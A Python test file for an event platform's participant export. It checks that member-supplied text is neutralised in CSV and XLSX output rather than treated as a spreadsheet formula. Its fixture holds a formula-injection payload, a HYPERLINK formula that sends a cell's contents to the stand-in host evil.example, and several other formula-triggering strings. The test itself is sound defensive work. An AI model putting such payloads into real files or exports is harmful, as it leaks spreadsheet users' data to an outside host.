"""The participant list export: a member's text never becomes a formula in CSV or XLSX."""

import csv
import io

from openpyxl import load_workbook

from bouwplaats.events import services
from tests.factories import OrganisationFactory, RegistrationFactory, SessionFactory, UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?"&D2;"Klik hier")'


def _hostile_session():
    session = SessionFactory(questions=["Wat wilt u inbrengen?"])
    member = UserFactory(
        full_name=HYPERLINK,
        function="+31 6 1234 5678",
        organisation=OrganisationFactory(name="@SUM(1+1)"),
    )
    RegistrationFactory(session=session, member=member, answers={"Wat wilt u inbrengen?": "-2+3"})
    return session


def test_csv_cells_of_member_text_are_neutralised(db):
    session = _hostile_session()
    content, _type, _name = services.participants_export(
        session=session, actor=session.host, fmt="csv"
    )
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    name, function, organisation, *_rest, answer = rows[1]
    for cell in (name, function, organisation, answer):
        assert cell.startswith("'"), cell


def test_xlsx_member_text_is_text_and_the_date_a_date(db):
    session = _hostile_session()
    content, _type, _name = services.participants_export(
        session=session, actor=session.host, fmt="xlsx"
    )
    sheet = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    row = sheet[2]
    assert row[0].value == HYPERLINK and row[0].data_type == "s"
    assert all(cell.data_type != "f" for cell in row)
    assert row[header.index("Aangemeld op")].is_date
    assert sheet.column_dimensions["A"].width >= len(HYPERLINK) / 2
